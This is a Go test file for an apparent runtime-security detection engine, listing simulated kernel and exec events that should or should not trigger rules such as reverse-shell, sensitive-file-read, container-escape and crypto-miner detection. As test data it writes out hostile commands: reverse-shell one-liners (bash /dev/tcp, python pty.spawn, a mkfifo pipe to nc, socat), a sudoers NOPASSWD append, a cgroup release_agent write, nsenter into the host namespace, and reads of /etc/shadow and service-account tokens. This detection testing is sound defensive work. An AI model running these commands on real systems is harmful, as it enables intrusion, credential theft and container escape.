// Copyright The otelcol-runtime-security Authors
// SPDX-License-Identifier: Apache-2.0

package builtin_test

// allCases lists, per rule, events that must fire it and the look-alikes
// that must not ("<rule>/<what>"; a case lists every rule it must trigger,
// so a case also proves that no other rule fires on it).
func allCases() []ruleCase {
	pod := inPod("shop", "web-7d9f")
	shim := p("/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -id "+ctrID+" -address /run/containerd/containerd.sock")
	runcExec := p("/usr/sbin/runc", "--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process1 --detach --pid-file /run/x.pid "+ctrID)
	runcRun := p("/usr/sbin/runc", "--root /opt/lab/runc-state run -d "+ctrID)
	runcInit := p("/proc/self/exe", "init", pod)
	hostBash := p("/usr/bin/bash", "")
	podShell := p("/bin/sh", "", pod, initTree(false))
	appInit := p("/app/server", "--port 8080", pod, initTree(true))
	nginx := p("/usr/sbin/nginx", "-g daemon off;", pod, initTree(true))
	sshd := p("/usr/sbin/sshd", "-D")
	const token = "/var/run/secrets/kubernetes.io/serviceaccount/..2026_11_26_16_00_00.123456789/token"

	return append([]ruleCase{
		// terminal_shell_in_container
		{"terminal_shell_in_container/kubectl exec -it bash", exec(p("/bin/bash", "", pod, initTree(false)), runcExec),
			[]string{"terminal_shell_in_container"}},
		{"terminal_shell_in_container/busybox sh -i", exec(p("/bin/busybox", "sh -i", pod, initTree(false)), runcExec),
			[]string{"terminal_shell_in_container"}},
		{"terminal_shell_in_container/login shell flags, docker-only container", exec(p("/bin/bash", "-il", inDocker), runcExec),
			[]string{"terminal_shell_in_container"}},
		{"terminal_shell_in_container/entrypoint shell in init tree", exec(p("/bin/sh", "", pod, initTree(true)), shim), nil},
		{"terminal_shell_in_container/exec probe", exec(p("/bin/sh", "", pod, initTree(false), execProbe), runcExec), nil},
		{"terminal_shell_in_container/non-interactive sh -c (captured exec burst)",
			exec(p("/bin/sh", `-c "i=0; while [ $i -lt 2000 ]; do /bin/true; i=$((i+1)); done"`, inDocker), runcExec), nil},
		{"terminal_shell_in_container/script run by exec", exec(p("/bin/sh", "/app/migrate.sh", pod, initTree(false)), runcExec), nil},
		{"terminal_shell_in_container/interactive shell on the host", exec(p("/usr/bin/bash", ""), sshd), nil},

		// shell_spawned_by_server
		{"shell_spawned_by_server/nginx spawns sh -c", exec(p("/bin/sh", "-c id", pod, initTree(true)), nginx),
			[]string{"shell_spawned_by_server"}},
		{"shell_spawned_by_server/php-fpm8.2 spawns bash", exec(p("/bin/bash", "-c 'uname -a'", pod, initTree(true)), p("/usr/sbin/php-fpm8.2", "--nodaemonize", pod, initTree(true))),
			[]string{"shell_spawned_by_server"}},
		{"shell_spawned_by_server/gunicorn (python) spawns sh", exec(p("/bin/sh", "-c whoami", pod, initTree(true)), p("/usr/local/bin/python3.11", "/usr/local/bin/gunicorn app:app -b 0.0.0.0:8000", pod, initTree(true))),
			[]string{"shell_spawned_by_server"}},
		{"shell_spawned_by_server/java is an ancestor", exec(p("/bin/bash", "-c whoami", pod, initTree(true)), p("/bin/sh", "-c 'bash -c whoami'", pod, initTree(true)), "/usr/lib/jvm/java-17-openjdk/bin/java", "/usr/bin/containerd-shim-runc-v2"),
			[]string{"shell_spawned_by_server"}},
		{"shell_spawned_by_server/node server runs a dropped script", exec(p("/bin/sh", "-c /tmp/.x/run.sh", pod, initTree(true)), p("/usr/local/bin/node", "dist/server.js", pod, initTree(true))),
			[]string{"shell_spawned_by_server"}},
		{"shell_spawned_by_server/node server runs its own housekeeping script", exec(p("/bin/bash", "-c /app/bin/housekeeping.sh", pod, initTree(true)), p("/usr/local/bin/node", "dist/server.js", pod, initTree(true))), nil},
		{"shell_spawned_by_server/npm start runs a package script", exec(p("/bin/sh", "-c 'node server.js'", pod, initTree(true)), p("/usr/local/bin/node", "/usr/local/bin/npm start", pod, initTree(true))), nil},
		{"shell_spawned_by_server/sshd login shell on the host", exec(p("/usr/bin/bash", "-c 'ls'"), sshd), nil},
		{"shell_spawned_by_server/container entrypoint starts nginx", exec(p("/usr/sbin/nginx", "-g daemon off;", pod, initTree(true)), p("/docker-entrypoint.sh", "/docker-entrypoint.sh nginx", pod, initTree(true))), nil},

		// sensitive_file_read
		{"sensitive_file_read/cat /etc/shadow (security_file_permission MAY_READ)", kprobe("security_file_permission", p("/bin/cat", "/etc/shadow", pod, initTree(false)), podShell, fileArg("/etc/shadow"), intArg(4)),
			[]string{"sensitive_file_read"}},
		{"sensitive_file_read/busybox applet opens /etc/shadow (openat tracepoint)", tp("syscalls/sys_enter_openat", p("/proc/self/exe", "/etc/shadow", inDocker), p("/bin/sh", "", inDocker), intArg(-100), strArg("/etc/shadow"), intArg(0)),
			[]string{"sensitive_file_read"}},
		{"sensitive_file_read/python opens an SSH private key (openat kprobe)", kprobe("__x64_sys_openat", p("/usr/bin/python3", "steal.py", pod, initTree(true)), podShell, intArg(-100), strArg("/root/.ssh/id_ed25519"), intArg(524288)),
			[]string{"sensitive_file_read"}},
		{"sensitive_file_read/cat of the apiserver key on the host", kprobe("security_file_permission", p("/usr/bin/cat", "/etc/kubernetes/pki/apiserver.key"), hostBash, fileArg("/etc/kubernetes/pki/apiserver.key"), intArg(4)),
			[]string{"sensitive_file_read"}},
		{"sensitive_file_read/sshd reads /etc/shadow", kprobe("security_file_permission", p("/usr/sbin/sshd", "-D -R"), sshd, fileArg("/etc/shadow"), intArg(4)), nil},
		{"sensitive_file_read/sudo opens /etc/shadow O_CLOEXEC (captured)", tp("syscalls/sys_enter_openat", p("/usr/bin/sudo", "-n -u nobody id"), hostBash, intArg(-100), strArg("/etc/shadow"), intArg(524288)), nil},
		{"sensitive_file_read/kube-apiserver reads its key", kprobe("security_file_permission", p("/usr/local/bin/kube-apiserver", "--tls-private-key-file=/etc/kubernetes/pki/apiserver.key"), p("/usr/bin/containerd-shim-runc-v2", ""), fileArg("/etc/kubernetes/pki/apiserver.key"), intArg(4)), nil},
		{"sensitive_file_read/ssh reads the user's key", kprobe("security_file_permission", p("/usr/bin/ssh", "git@example.com"), hostBash, fileArg("/root/.ssh/id_rsa"), intArg(4)), nil},
		{"sensitive_file_read/public key", kprobe("security_file_permission", p("/usr/bin/cat", "/root/.ssh/id_rsa.pub"), hostBash, fileArg("/root/.ssh/id_rsa.pub"), intArg(4)), nil},
		{"sensitive_file_read/O_PATH open is not a read", tp("syscalls/sys_enter_openat", p("/usr/bin/stat", "/etc/shadow"), hostBash, intArg(-100), strArg("/etc/shadow"), intArg(0x200000|0x80000)), nil},
		{"sensitive_file_read/reading /etc/passwd is not sensitive", kprobe("security_file_permission", p("/usr/bin/cat", "/etc/passwd", pod, initTree(false)), podShell, fileArg("/etc/passwd"), intArg(4)), nil},
		{"sensitive_file_read/write mask is a write, not a read", kprobe("security_file_permission", p("/usr/bin/vi", "/etc/shadow", pod, initTree(false)), podShell, fileArg("/etc/shadow"), intArg(2)),
			[]string{"sensitive_file_write"}},

		// service_account_token_read
		{"service_account_token_read/cat exec'd into the pod opens the token", tp("syscalls/sys_enter_openat", p("/bin/cat", token, pod, initTree(false)), podShell, intArg(-100), strArg(token), intArg(0)),
			[]string{"service_account_token_read"}},
		{"service_account_token_read/web shell cats the token (exec args)", exec(p("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", pod, initTree(true)), p("/bin/sh", "-c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'", pod, initTree(true))),
			[]string{"service_account_token_read"}},
		{"service_account_token_read/injected binary reads the token", kprobe("security_file_permission", p("/usr/local/bin/helper", "", pod, initTree(false)), podShell, fileArg(token), intArg(4)),
			[]string{"service_account_token_read"}},
		{"service_account_token_read/app reads its own token", kprobe("security_file_permission", appInit, shim, fileArg(token), intArg(4)), nil},
		{"service_account_token_read/exec probe", exec(p("/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", pod, initTree(false), execProbe), runcExec), nil},
		{"service_account_token_read/kubelet writes the projected token on the host", kprobe("security_file_permission", p("/usr/bin/kubelet", "--config /var/lib/kubelet/config.yaml"), p("/usr/lib/systemd/systemd", ""), fileArg("/var/lib/kubelet/pods/1234/volumes/kubernetes.io~projected/kube-api-access-x/token"), intArg(4)), nil},

		// sensitive_file_write
		{"sensitive_file_write/vi writes /etc/passwd (security_file_permission MAY_WRITE)", kprobe("security_file_permission", p("/usr/bin/vi", "/etc/passwd", pod, initTree(false)), podShell, fileArg("/etc/passwd"), intArg(2)),
			[]string{"sensitive_file_write"}},
		{"sensitive_file_write/bash appends to /etc/sudoers (openat O_WRONLY|O_APPEND)", tp("syscalls/sys_enter_openat", p("/usr/bin/bash", ""), sshd, intArg(-100), strArg("/etc/sudoers"), intArg(0x401)),
			[]string{"sensitive_file_write"}},
		{"sensitive_file_write/python creates authorized_keys (O_CREAT|O_WRONLY|O_TRUNC)", kprobe("__x64_sys_openat", p("/usr/bin/python3", "-c ...", pod, initTree(true)), podShell, intArg(-100), strArg("/root/.ssh/authorized_keys"), intArg(577)),
			[]string{"sensitive_file_write"}},
		{"sensitive_file_write/rename onto /etc/ld.so.preload", tp("syscalls/sys_enter_renameat2", p("/tmp/dropper", ""), hostBash, intArg(-100), strArg("/tmp/x.so.conf"), intArg(-100), strArg("/etc/ld.so.preload"), intArg(0)),
			[]string{"sensitive_file_write"}},
		{"sensitive_file_write/sh -c echo >> /etc/sudoers", exec(p("/bin/sh", `-c "echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"`), hostBash),
			[]string{"sensitive_file_write"}},
		{"sensitive_file_write/cp a unit into /etc/systemd/system", exec(p("/usr/bin/cp", "/tmp/evil.service /etc/systemd/system/evil.service"), hostBash),
			[]string{"sensitive_file_write"}},
		{"sensitive_file_write/old Tetragon slash-less path (__x64_sys_write)", kprobe("__x64_sys_write", p("/usr/bin/vi", "/etc/passwd", pod), podShell, fileArg("etc/passwd"), jmap{"bytes_arg": "cm9vdAo="}, sizeArg(5)),
			[]string{"sensitive_file_write"}},
		{"sensitive_file_write/useradd writes /etc/passwd", kprobe("security_file_permission", p("/usr/sbin/useradd", "-m eve"), hostBash, fileArg("/etc/passwd"), intArg(2)), nil},
		{"sensitive_file_write/cp from /etc/passwd is a read", exec(p("/usr/bin/cp", "/etc/passwd /tmp/passwd.bak"), hostBash), nil},
		{"sensitive_file_write/cat reads /etc/passwd (O_RDONLY)", tp("syscalls/sys_enter_openat", p("/usr/bin/cat", "/etc/passwd"), hostBash, intArg(-100), strArg("/etc/passwd"), intArg(0)), nil},
		{"sensitive_file_write/dpkg installs a cron file", tp("syscalls/sys_enter_openat", p("/usr/bin/dpkg", "--unpack x.deb"), p("/usr/bin/apt-get", "install x"), intArg(-100), strArg("/etc/cron.d/x.dpkg-new"), intArg(577)), nil},

		// package_manager_in_container
		{"package_manager_in_container/apt-get install", exec(p("/usr/bin/apt-get", "install -y nmap", pod, initTree(false)), podShell),
			[]string{"package_manager_in_container"}},
		{"package_manager_in_container/pip install", exec(p("/usr/local/bin/pip", "install requests", pod, initTree(true)), p("/bin/sh", "-c 'pip install requests'", pod, initTree(true))),
			[]string{"package_manager_in_container"}},
		{"package_manager_in_container/npm install (node)", exec(p("/usr/local/bin/node", "/usr/local/bin/npm install left-pad", pod, initTree(false)), podShell),
			[]string{"package_manager_in_container"}},
		{"package_manager_in_container/apk add in a docker-only container", exec(p("/sbin/apk", "add --no-cache curl", inDocker), p("/bin/sh", "", inDocker)),
			[]string{"package_manager_in_container"}},
		{"package_manager_in_container/apt-get install on the host", exec(p("/usr/bin/apt-get", "install -y htop"), hostBash), nil},
		{"package_manager_in_container/dpkg run by apt-get", exec(p("/usr/bin/dpkg", "--status-fd 23 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/nmap.deb", pod), p("/usr/bin/apt-get", "install -y nmap", pod)), nil},
		{"package_manager_in_container/dpkg -l query", exec(p("/usr/bin/dpkg", "-l", pod, initTree(false)), podShell), nil},
		{"package_manager_in_container/rpm -qa query", exec(p("/usr/bin/rpm", "-qa", pod, initTree(false)), podShell), nil},

		// execution_from_writable_dir
		{"execution_from_writable_dir/binary in /tmp (pod)", exec(p("/tmp/payload", "", pod, initTree(true)), p("/bin/sh", "-c 'cd /tmp && ./payload'", pod, initTree(true))),
			[]string{"execution_from_writable_dir"}},
		{"execution_from_writable_dir/binary in /dev/shm (host)", exec(p("/dev/shm/x", ""), hostBash),
			[]string{"execution_from_writable_dir"}},
		{"execution_from_writable_dir/hidden directory", exec(p("/var/lib/.cache/dbus-helper", ""), hostBash),
			[]string{"execution_from_writable_dir"}},
		{"execution_from_writable_dir/go run in a container", exec(p("/tmp/go-build3518135900/b001/exe/main", "-v -url https://c2.example:443", inDocker), p("/usr/local/go/bin/go", "run main.go", inDocker)),
			[]string{"execution_from_writable_dir"}},
		{"execution_from_writable_dir/go test on the host", exec(p("/tmp/go-build1/b001/pkg.test", "-test.v"), p("/usr/local/go/bin/go", "test ./...")), nil},
		{"execution_from_writable_dir/pyenv shim (captured)", exec(p("/root/.pyenv/shims/python3", "bash /root/.pyenv/shims/python3 -c 'import platform'"), hostBash), nil},
		{"execution_from_writable_dir/system binary", exec(p("/usr/bin/ls", "-la /tmp"), hostBash), nil},

		// fileless_execution
		{"fileless_execution/fexecve of a memfd (/dev/fd/4)", exec(p("/dev/fd/4", "", pod, initTree(true)), p("/usr/bin/python3", "loader.py", pod, initTree(true))),
			[]string{"fileless_execution"}},
		{"fileless_execution/memfd: path", exec(p("memfd:x (deleted)", "", pod, initTree(true)), p("/usr/bin/python3", "loader.py", pod, initTree(true))),
			[]string{"fileless_execution"}},
		{"fileless_execution/binary with no links left", exec(p("/usr/bin/kworker", "", binProps(jmap{"file": jmap{"inode": jmap{"number": "4242", "links": 0}, "path": "/usr/bin/kworker"}})), hostBash),
			[]string{"fileless_execution"}},
		{"fileless_execution/execveat AT_EMPTY_PATH by python", tp("syscalls/sys_enter_execveat", p("/usr/bin/python3", "loader.py", pod), podShell, intArg(4), strArg(""), intArg(0x1000)),
			[]string{"fileless_execution"}},
		{"fileless_execution/runc /dev/fd/5 init", exec(p("/dev/fd/5", "init"), p("/proc/self/exe", "init"), "/usr/sbin/runc"), nil},
		{"fileless_execution/runc execveat (captured)", tp("syscalls/sys_enter_execveat", p("/proc/self/exe", "init"), runcRun, intArg(5), strArg(""), intArg(4096)), nil},
		{"fileless_execution/runc re-exec as /proc/self/exe init", exec(p("/proc/self/exe", "init"), runcRun), nil},
		{"fileless_execution/systemd-executor", exec(p("/dev/fd/3", "--deserialize 22 --log-level info --log-target auto"), p("/usr/lib/systemd/systemd", "--system --deserialize 40")), nil},

		// reverse_shell
		{"reverse_shell/nc -e", exec(p("/usr/bin/nc", "-e /bin/sh 10.0.0.9 4444", pod, initTree(true)), nginx),
			[]string{"reverse_shell"}},
		{"reverse_shell/ncat --sh-exec", exec(p("/usr/bin/ncat", "10.0.0.9 4444 --sh-exec 'bash -i'"), hostBash),
			[]string{"reverse_shell"}},
		{"reverse_shell/bash -i >& /dev/tcp", exec(p("/bin/bash", "-c 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1'"), hostBash),
			[]string{"reverse_shell"}},
		{"reverse_shell/python socket + pty.spawn", exec(p("/usr/bin/python3", `-c "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.9',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"`), hostBash),
			[]string{"reverse_shell"}},
		{"reverse_shell/socat exec tcp", exec(p("/usr/bin/socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.9:4444"), hostBash),
			[]string{"reverse_shell"}},
		{"reverse_shell/mkfifo pipe to nc", exec(p("/bin/sh", "-c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.9 4444 >/tmp/f'"), hostBash),
			[]string{"reverse_shell"}},
		{"reverse_shell/busybox nc applet (/proc/self/exe)", exec(p("/proc/self/exe", "10.0.0.9 4444 -e /bin/sh", inDocker), p("/bin/sh", "", inDocker)),
			[]string{"reverse_shell"}},
		{"reverse_shell/plain nc to a host (book)", exec(p("/usr/bin/nc", "raiz3gjkgtfhkkc.not-reverse-shell.com 443", pod), p("/usr/bin/sh", "lifecycle.sh", pod)), nil},
		{"reverse_shell/wait-for-it /dev/tcp probe", exec(p("/bin/bash", `-c "echo > /dev/tcp/db/5432"`, pod, initTree(true)), p("/bin/sh", "/wait-for-it.sh db:5432", pod, initTree(true))), nil},
		{"reverse_shell/python one-liner without sockets", exec(p("/usr/bin/python3", `-c "import platform; print(platform.python_version())"`), hostBash), nil},

		// crypto_miner
		{"crypto_miner/xmrig", exec(p("/usr/local/bin/xmrig", "--config=/etc/xmrig.json", pod, initTree(true)), shim),
			[]string{"crypto_miner"}},
		{"crypto_miner/stratum URL", exec(p("/opt/app/worker", "-o stratum+tcp://pool.example.net:3333 -u 4AbC -p x", pod, initTree(true)), shim),
			[]string{"crypto_miner"}},
		{"crypto_miner/renamed miner with --donate-level", exec(p("/usr/sbin/kthreadd2", "--donate-level 1 -o 1.2.3.4:443"), hostBash),
			[]string{"crypto_miner"}},
		{"crypto_miner/curl to a web server", exec(p("/usr/bin/curl", "-s http://127.0.0.1:8080/index.html"), hostBash), nil},

		// k8s_api_from_container
		{"k8s_api_from_container/kubectl in a pod", exec(p("/usr/local/bin/kubectl", "get secrets -A", pod, initTree(false)), podShell),
			[]string{"k8s_api_from_container"}},
		{"k8s_api_from_container/curl to the API server URL", exec(p("/usr/bin/curl", "-sk https://kubernetes.default.svc/api/v1/namespaces/default/pods", pod, initTree(false)), podShell),
			[]string{"k8s_api_from_container"}},
		{"k8s_api_from_container/curl connects to 10.96.0.1:443", tp("syscalls/sys_enter_connect", p("/usr/bin/curl", "-sk https://10.96.0.1/version", pod, initTree(false)), podShell, intArg(5), sockaddr("10.96.0.1", 443), intArg(16)),
			[]string{"k8s_api_from_container"}},
		{"k8s_api_from_container/exec'd binary tcp_connect to 10.96.0.1:443", kprobe("tcp_connect", p("/usr/local/bin/tool", "", pod, initTree(false)), podShell, sockArg("10.96.0.1", 443)),
			[]string{"k8s_api_from_container"}},
		{"k8s_api_from_container/shell connects to a control-plane node on 6443", tp("syscalls/sys_enter_connect", p("/bin/bash", "", pod, initTree(false)), runcExec, intArg(3), sockaddr("192.168.10.4", 6443), intArg(16)),
			[]string{"k8s_api_from_container"}},
		{"k8s_api_from_container/curl to another service on 443", tp("syscalls/sys_enter_connect", p("/usr/bin/curl", "https://api.example.com", pod, initTree(false)), podShell, intArg(5), sockaddr("93.184.216.34", 443), intArg(16)), nil},
		{"k8s_api_from_container/controller started with the container", kprobe("tcp_connect", appInit, shim, sockArg("10.96.0.1", 443)), nil},
		{"k8s_api_from_container/curl to cluster DNS 10.96.0.10", exec(p("/usr/bin/curl", "http://10.96.0.10:9153/metrics", pod, initTree(false)), podShell), nil},
		{"k8s_api_from_container/kubectl on the host", exec(p("/usr/local/bin/kubectl", "get pods"), hostBash), nil},
		{"k8s_api_from_container/curl to another REST API", exec(p("/usr/bin/curl", "https://api.example.com/api/v1/users", pod, initTree(false)), podShell), nil},

		// network_recon_tool
		{"network_recon_tool/nmap in a pod", exec(p("/usr/bin/nmap", "-sS 10.0.0.0/24", pod, initTree(false)), podShell),
			[]string{"network_recon_tool"}},
		{"network_recon_tool/tcpdump in a docker-only container", exec(p("/usr/sbin/tcpdump", "-i eth0 -w /tmp/x.pcap", inDocker), p("/bin/sh", "", inDocker)),
			[]string{"network_recon_tool"}},
		{"network_recon_tool/nmap on the host", exec(p("/usr/bin/nmap", "localhost"), hostBash), nil},
		{"network_recon_tool/ping in a pod", exec(p("/bin/ping", "-c 1 10.0.0.1", pod, initTree(false)), podShell), nil},

		// setuid_privilege_escalation
		{"setuid_privilege_escalation/setuid-root backdoor (binary_properties)", exec(p("/usr/local/bin/backdoor", "", uid(1000), creds(1000, 0), binProps(jmap{"setuid": 0, "privileges_changed": []string{"PRIVILEGES_RAISED_EXEC_FILE_SETUID"}})), p("/bin/bash", "", uid(1000))),
			[]string{"setuid_privilege_escalation"}},
		{"setuid_privilege_escalation/find with euid 0 and real uid 1000 (captured shape)", exec(p("/usr/bin/find", ". -exec /bin/sh -p \\;", uid(1000), creds(1000, 0)), p("/bin/bash", "", uid(1000))),
			[]string{"setuid_privilege_escalation"}},
		{"setuid_privilege_escalation/file capability raise on python", exec(p("/usr/bin/python3.11", "", uid(1000), creds(1000, 1000), binProps(jmap{"privileges_changed": []string{"PRIVILEGES_RAISED_EXEC_FILE_CAP"}})), p("/bin/bash", "", uid(1000))),
			[]string{"setuid_privilege_escalation"}},
		{"setuid_privilege_escalation/sudo by a user", exec(p("/usr/bin/sudo", "id", uid(1000), creds(1000, 0), binProps(jmap{"setuid": 0, "privileges_changed": []string{"PRIVILEGES_RAISED_EXEC_FILE_SETUID"}})), p("/bin/bash", "", uid(1000))), nil},
		{"setuid_privilege_escalation/ping with file caps", exec(p("/usr/bin/ping", "-c1 10.0.0.1", uid(1000), binProps(jmap{"privileges_changed": []string{"PRIVILEGES_RAISED_EXEC_FILE_CAP"}})), p("/bin/bash", "", uid(1000))), nil},
		{"setuid_privilege_escalation/root process", exec(p("/usr/bin/id", "", creds(0, 0)), hostBash), nil},
		{"setuid_privilege_escalation/mount helper under setuid mount", exec(p("/usr/sbin/mount.nfs", "srv:/x /mnt", uid(1000), creds(1000, 0)), p("/usr/bin/mount", "/mnt", uid(1000), creds(1000, 0))), nil},

		// setuid_to_root_syscall
		{"setuid_to_root_syscall/setuid(0) by uid 1000", tp("syscalls/sys_enter_setuid", p("/home/eve/exploit", "", uid(1000), creds(1000, 1000)), p("/bin/bash", "", uid(1000)), intArg(0)),
			[]string{"setuid_to_root_syscall"}},
		{"setuid_to_root_syscall/setresuid(-1,0,-1) with real uid 1000", kprobe("__x64_sys_setresuid", p("/usr/local/bin/helper", "", uid(1000), creds(1000, 0)), p("/bin/bash", "", uid(1000)), intArg(-1), intArg(0), intArg(-1)),
			[]string{"setuid_to_root_syscall"}},
		{"setuid_to_root_syscall/commit_creds to root by uid 11 (/tmp/su)", kprobe("commit_creds", p("/tmp/su", "-", pod, uid(11)), p("/bin/sh", "", pod, uid(11)), credsArg(0, 0)),
			[]string{"setuid_to_root_syscall"}},
		{"setuid_to_root_syscall/sudo setresuid (captured)", tp("syscalls/sys_enter_setresuid", p("/usr/bin/sudo", "-n -u nobody id", creds(0, 0)), hostBash, intArg(-1), intArg(0), intArg(-1)), nil},
		{"setuid_to_root_syscall/su setuid(0) with real uid 1000", kprobe("__x64_sys_setuid", p("/bin/su", "root", uid(1000), creds(1000, 0)), p("/bin/bash", "", uid(1000)), intArg(0)), nil},
		{"setuid_to_root_syscall/runc setuid(0) as root (captured)", tp("syscalls/sys_enter_setuid", p("/usr/sbin/runc", "--root /opt/lab/runc-state run -d x", creds(0, 0), initTree(true)), hostBash, intArg(0)), nil},
		{"setuid_to_root_syscall/root drops to uid 1000", tp("syscalls/sys_enter_setuid", p("/usr/sbin/nginx", "", creds(0, 0)), hostBash, intArg(1000)), nil},

		// kernel_module_load
		{"kernel_module_load/finit_module from a pod (raw_syscalls 313)", tp("raw_syscalls/sys_enter", p("/sbin/insmod", "/tmp/rk.ko", pod, initTree(false)), podShell, syscallID(313), sizeArg(3), sizeArg(0), sizeArg(0), sizeArg(0), sizeArg(0), sizeArg(0)),
			[]string{"kernel_module_load"}},
		{"kernel_module_load/do_init_module (insmod on the host)", kprobe("do_init_module", p("/usr/sbin/insmod", "hello.ko"), p("/usr/bin/sudo", "insmod hello.ko"), moduleArg("hello")),
			[]string{"kernel_module_load"}},
		{"kernel_module_load/security_kernel_read_file READING_MODULE", kprobe("security_kernel_read_file", p("/sbin/modprobe", "-q -- fs-xfs"), p("<kernel>", ""), fileArg("/usr/lib/modules/6.2.0/kernel/fs/xfs/xfs.ko"), intArg(2)),
			[]string{"kernel_module_load"}},
		{"kernel_module_load/sys_enter_finit_module tracepoint", tp("syscalls/sys_enter_finit_module", p("/usr/sbin/insmod", "x.ko", inDocker), p("/bin/sh", "", inDocker), intArg(3), strArg(""), intArg(0)),
			[]string{"kernel_module_load"}},
		{"kernel_module_load/raw_syscalls setns (308) is not a module load", tp("raw_syscalls/sys_enter", runcExec, hostBash, syscallID(308), sizeArg(6), sizeArg(134217728), sizeArg(0), sizeArg(0), sizeArg(0), sizeArg(0)), nil},
		{"kernel_module_load/firmware read", kprobe("security_kernel_read_file", p("/usr/lib/systemd/systemd-udevd", ""), p("/usr/lib/systemd/systemd", ""), fileArg("/lib/firmware/iwlwifi.ucode"), intArg(1)), nil},

		// ptrace_attach
		{"ptrace_attach/PTRACE_ATTACH from a pod (tracepoint)", tp("syscalls/sys_enter_ptrace", p("/usr/bin/python3", "inject.py", pod, initTree(false)), podShell, longArg(16), longArg(1234), sizeArg(0)),
			[]string{"ptrace_attach"}},
		{"ptrace_attach/PTRACE_POKETEXT on the host (kprobe)", kprobe("__x64_sys_ptrace", p("/usr/local/bin/injector", ""), hostBash, intArg(4), intArg(1234)),
			[]string{"ptrace_attach"}},
		{"ptrace_attach/gdb in a container", tp("syscalls/sys_enter_ptrace", p("/usr/bin/gdb", "-p 1", pod, initTree(false)), podShell, longArg(0x4206), longArg(1), sizeArg(0)),
			[]string{"ptrace_attach"}},
		{"ptrace_attach/gdb on the host", tp("syscalls/sys_enter_ptrace", p("/usr/bin/gdb", "-p 1234"), hostBash, longArg(16), longArg(1234), sizeArg(0)), nil},
		{"ptrace_attach/PTRACE_PEEKDATA", tp("syscalls/sys_enter_ptrace", p("/usr/local/bin/injector", ""), hostBash, longArg(2), longArg(1234), sizeArg(0)), nil},
		{"ptrace_attach/PTRACE_TRACEME", tp("syscalls/sys_enter_ptrace", p("/usr/bin/strace", "ls"), hostBash, longArg(0), longArg(0), sizeArg(0)), nil},

		// namespace_escape
		{"namespace_escape/nsenter -t 1 from a privileged pod", exec(p("/usr/bin/nsenter", "-t 1 -m -u -n -i -p bash", pod, initTree(false)), p("/bin/bash", "", pod, initTree(false))),
			[]string{"namespace_escape"}},
		{"namespace_escape/setns by a tool in a pod (tracepoint)", tp("syscalls/sys_enter_setns", p("/usr/local/bin/escape", "", pod, initTree(false)), podShell, intArg(3), intArg(0x40000000)),
			[]string{"namespace_escape"}},
		{"namespace_escape/unshare CLONE_NEWUSER|CLONE_NEWNS in a pod", tp("syscalls/sys_enter_unshare", p("/usr/bin/unshare", "-Urm", pod, initTree(false)), podShell, sizeArg(0x10020000)),
			[]string{"namespace_escape"}},
		{"namespace_escape/busybox nsenter applet (/proc/self/exe)", exec(p("/proc/self/exe", "-t 1 -m -u -i -n -p sh", inDocker), p("/bin/sh", "", inDocker)),
			[]string{"namespace_escape"}},
		{"namespace_escape/runc init joins the container", tp("syscalls/sys_enter_setns", runcInit, runcExec, intArg(6), intArg(0x08000000)), nil},
		{"namespace_escape/runc exec setns on the host (captured)", tp("syscalls/sys_enter_setns", runcExec, hostBash, intArg(6), intArg(134217728)), nil},
		{"namespace_escape/unshare(0) in a pod", tp("syscalls/sys_enter_unshare", p("/usr/local/bin/app", "", pod), podShell, sizeArg(0)), nil},
		{"namespace_escape/cilium-agent enters a pod netns", kprobe("__x64_sys_setns", p("/usr/bin/cilium-agent", "--config-dir=/tmp/cilium/config-map", pod, initTree(true)), shim, intArg(12), intArg(0x40000000)), nil},
		{"namespace_escape/systemd sandboxing a service on a kind node (docker-only container)", tp("syscalls/sys_enter_unshare", p("/usr/lib/systemd/systemd", "", inDocker), p("/usr/lib/systemd/systemd", "", inDocker), sizeArg(0x20000)), nil},
		{"namespace_escape/nsenter -t 1 on the host", exec(p("/usr/bin/nsenter", "-t 1 -m"), hostBash), nil},

		// container_escape_mount
		{"container_escape_mount/mount(2) of the host disk from a pod", tp("syscalls/sys_enter_mount", p("/bin/sh", "", pod, initTree(false)), runcExec, strArg("/dev/sda1"), strArg("/mnt"), strArg("ext4"), sizeArg(0)),
			[]string{"container_escape_mount"}},
		{"container_escape_mount/mount -t cgroup exec in a pod", exec(p("/usr/bin/mount", "-t cgroup -o rdma cgroup /mnt/cgrp", pod, initTree(false)), podShell),
			[]string{"container_escape_mount"}},
		{"container_escape_mount/write to release_agent", tp("syscalls/sys_enter_openat", p("/bin/sh", "", pod, initTree(false)), runcExec, intArg(-100), strArg("/mnt/cgrp/release_agent"), intArg(577)),
			[]string{"container_escape_mount"}},
		{"container_escape_mount/echo > release_agent", exec(p("/bin/sh", `-c "echo /cmd > /mnt/cgrp/release_agent"`, pod, initTree(false)), podShell),
			[]string{"container_escape_mount"}},
		{"container_escape_mount/runc init mounts the rootfs", tp("syscalls/sys_enter_mount", runcInit, runcExec, strArg("proc"), strArg("/proc/self/fd/6"), strArg("proc"), sizeArg(0)), nil},
		{"container_escape_mount/runc mount on the host (captured)", tp("syscalls/sys_enter_mount", p("/usr/sbin/runc", "--root /opt/lab/runc-state run -d x", initTree(true)), hostBash, strArg(""), strArg("/"), strArg(""), sizeArg(540672)), nil},
		{"container_escape_mount/CSI node plugin mounts a volume", tp("syscalls/sys_enter_mount", p("/bin/aws-ebs-csi-driver", "node", pod, initTree(true)), shim, strArg("/dev/nvme1n1"), strArg("/var/lib/kubelet/pods/x/volumes/y"), strArg("ext4"), sizeArg(0)), nil},
		{"container_escape_mount/mount helper run by a CSI plugin", exec(p("/usr/bin/mount", "-t nfs srv:/x /var/lib/kubelet/pods/x/volumes/y", pod, initTree(true)), p("/bin/nfsplugin", "--nodeid=n1", pod, initTree(true))), nil},
